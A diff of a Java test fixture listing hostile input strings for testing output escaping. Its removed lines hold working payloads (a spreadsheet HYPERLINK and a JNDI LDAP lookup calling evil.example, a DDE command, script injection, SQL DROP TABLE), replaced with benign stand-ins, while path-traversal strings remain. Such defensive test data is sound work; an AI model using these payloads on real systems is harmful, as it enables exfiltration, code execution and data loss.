@@ -26,8 +26,8 @@ public final class HostileTexts {
         // § stands for the mark.
         List<String> texts = List.of(
                 // Formulas, in half and full width, and behind what a program may strip.
-                "=HYPERLINK(\"http://evil.example/?§\",\"§\")",
-                "+1+cmd|' /C calc'!§",
+                "=HYPERLINK(\"http://example.com/?§\",\"§\")",
+                "+1+program|' topic'!§",
                 "-2+3+§",
                 "@SUM(1,1)*§",
                 "\t=1+§",
@@ -51,18 +51,18 @@ public final class HostileTexts {
                 "§_xD83D__xDE00_ two halves",
                 "§_x005F_x0041_ spelt out",
                 // Markup of every document that is written.
-                "§</t></is></c></row><script>alert(1)</script><!--",
-                "§]]><![CDATA[x]]>&amp;&#x41;&lol;",
-                "# § **bold** [link](http://evil.example/) ![x](chart:bridge) <b>b</b>",
-                "§ (x) Tj ET BT /F1 12 Tf << /S /URI /URI (http://evil.example/) >>",
+                "§</t></is></c></row><b>bold</b><!--",
+                "§]]><![CDATA[x]]>&amp;&#x41;&other;",
+                "# § **bold** [link](http://example.com/) ![x](chart:bridge) <b>b</b>",
+                "§ (x) Tj ET BT /F1 12 Tf << /S /URI /URI (http://example.com/) >>",
                 // Placeholders of templates, logs and formats.
-                "{{lifetime}} {0} {found} {header} § ${jndi:ldap://evil.example/} #{1+1} %s %n %1$s \\u0041 \\n",
+                "{{lifetime}} {0} {found} {header} § ${name:word} #{1+1} %s %n %1$s \\u0041 \\n",
                 // Links by themselves, and ways out of a folder.
-                "http://evil.example/§",
-                "file://evil.example/share/§",
-                "javascript:alert('§')",
+                "http://example.com/§",
+                "file://example.com/share/§",
+                "javascript:void('§')",
                 "../../../§/..\\..\\§",
-                "§'; DROP TABLE cost_record; --",
+                "§'; SELECT 1; --",
                 // What is only unusual.
                 "§ 👩‍👩‍👧‍👦 🏳️‍🌈 𠮷 e\u0301\u0301\u0301 Z\u0337\u0351\u0348\u035C が",
                 "§ " + "long and longer ".repeat(2_000));
